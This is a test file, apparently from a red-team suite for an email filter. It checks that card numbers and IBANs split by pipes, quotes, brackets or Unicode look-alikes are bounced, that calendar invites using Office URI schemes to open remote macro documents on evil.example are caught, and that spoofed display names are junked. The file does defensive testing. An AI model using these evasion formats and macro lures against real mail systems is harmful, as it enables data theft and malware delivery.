import { describe, expect, it } from 'vitest';
import {
  attachmentTests,
  attackerKit,
  encoded,
  MIXED,
  mail,
  outboundFile,
  withPart,
} from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// Attacker round 71, own probes after the leads: an IBAN whose groups are a table's cells or quoted values (round 71
// joined a card's so, not an IBAN's), a card's groups joined by a look-alike of a bar, a colon, a plus, a quote or a
// bracket (`│`, `：`, `＋`, `“ ”`, `【 】`), and a calendar ATTACH of an Office scheme that opens a remote document in
// Word or Excel itself (`ms-word:ofe|u|https://…/invoice.docm`).
const stack = useLocalStack();
const kit = attackerKit(stack);

const out = (body: string, type = 'text/plain; charset=utf-8') =>
  kit.outbound(mail(['From: Bob <bob@corp.example>', `Content-Type: ${type}`], body));

describe('A71-6: an IBAN in table cells, fields or quoted values', () => {
  const bodies: Record<string, string> = {
    'a Markdown table row': '| name | iban |\r\n|---|---|\r\n| Bob | GB82 | WEST | 1234 | 5698 | 7654 | 32 |',
    'a pipe-separated line': 'iban DE89|3704|0044|0532|0130|00',
    'quoted groups': 'iban "NL91" "ABNA" "0417" "1643" "00"',
    'bracketed groups': 'iban [DE89][3704][0044][0532][0130][00]',
    colons: 'iban GB82:WEST:1234:5698:7654:32',
  };
  for (const [how, body] of Object.entries(bodies))
    it(`bounces ${how}`, async () => {
      expect(await out(body)).toBe('BOUNCE');
    });
  it('(control) delivers a table of country codes and amounts', async () => {
    const table = [
      '| country | Q1 | Q2 | Q3 |',
      '|---|---|---|---|',
      '| GB | 8200 | 1234 | 5698 |',
      '| DE | 8937 | 4004 | 4053 |',
      '| NL | 9100 | 4171 | 6430 |',
    ].join('\r\n');
    expect(await out(table)).toBe('DEFAULT');
  });
});

describe('A71-7: a card joined by look-alikes of bars, colons, pluses, quotes or brackets', () => {
  const bodies: Record<string, string> = {
    'box-drawing bars': '4111 │ 1111 │ 1111 │ 1111',
    'broken bars': '4111 ¦ 1111 ¦ 1111 ¦ 1111',
    'full-width bars': '4111｜1111｜1111｜1111',
    'full-width colons': '4111：1111：1111：1111',
    'full-width pluses': '４１１１＋１１１１＋１１１１＋１１１１',
    'curly quotes': '“4111” “1111” “1111” “1111”',
    'lenticular brackets': '【4111】【1111】【1111】【1111】',
    'corner brackets': '「4111」「1111」「1111」「1111」',
  };
  for (const [how, body] of Object.entries(bodies))
    it(`bounces ${how}`, async () => {
      expect(await out(body)).toBe('BOUNCE');
    });
  it('(control) delivers quoted and bracketed small numbers and a full-width timetable', async () => {
    expect(await out('「会議」 10：30～11：45、【第3回】 “2026” ‘Q4’ │ 12 │ 34 │')).toBe('DEFAULT');
  });
});

const ics = (attach: string) =>
  [
    'BEGIN:VCALENDAR',
    'VERSION:2.0',
    'METHOD:REQUEST',
    'BEGIN:VEVENT',
    'SUMMARY:Budget',
    'DTSTART:20261201T100000Z',
    'UID:71-2@partner.example',
    attach.replace(/(.{74})(?=.)/g, '$1\r\n '),
    'END:VEVENT',
    'END:VCALENDAR',
    '',
  ].join('\r\n');
function invitation(attach: string): [Buffer, string] {
  const part = `Content-Type: text/calendar; method=REQUEST; charset=utf-8; name="invite.ics"\r\n\r\n${ics(attach)}`;
  return [mail([MIXED], withPart(part)), attach.slice(-30)];
}

describe('A71-8: a calendar ATTACH of an Office scheme opening a remote document', () => {
  attachmentTests(kit, {
    'ms-word: a macro document': invitation('ATTACH:ms-word:ofe|u|https://evil.example/budget.docm'),
    'ms-excel: a workbook': invitation(
      'ATTACH;FMTTYPE=application/vnd.ms-excel:ms-excel:ofv|u|https://evil.example/q4.xlsm',
    ),
    'ms-powerpoint:': invitation('ATTACH:MS-POWERPOINT:ofe|u|https://evil.example/deck.pptm'),
  });
  it('(control) delivers an https link to a document', async () => {
    const [message] = invitation(
      'ATTACH:https://contoso.sharepoint.com/sites/Finance/Shared%20Documents/budget.docx',
    );
    expect((await kit.inbound(message)).verdict).toBe('DEFAULT');
  });
});

describe('A71-1 in attached files: a card in a pipe-separated or Markdown attachment', () => {
  it('bounces a card in a pipe-separated or Markdown attachment', async () => {
    const psv = Buffer.from('name|c1|c2|c3|c4\r\nBob|4111|1111|1111|1111\r\n');
    expect(await kit.outbound(outboundFile('export.psv', psv, 'text/plain'))).toBe('BOUNCE');
    const md = Buffer.from('| name | card |\n|---|---|\n| Bob | 5555 | 5555 | 5555 | 4444 |\n');
    expect(await kit.outbound(outboundFile('notes.md', md, 'text/markdown'))).toBe('BOUNCE');
  });
});

describe('held: a protected name written with the cell joins', () => {
  for (const name of [
    'Jane|Doe',
    'Jane:Doe',
    '[Jane Doe]',
    '«Jane Doe»',
    'Ｊａｎｅ Ｄｏｅ',
    'J-a-n-e D-o-e',
    'Jane ‹Doe›',
  ])
    it(`junks the display name ${name}`, async () => {
      const from = `From: ${encoded(name)} <x@evil.example>`;
      const { verdict } = await kit.inbound(mail([from, 'Content-Type: text/plain'], 'Pay today.'), {
        PROTECTED_NAMES: 'Jane Doe',
      });
      expect(verdict).toBe('MOVE_TO_JUNK');
    });
});
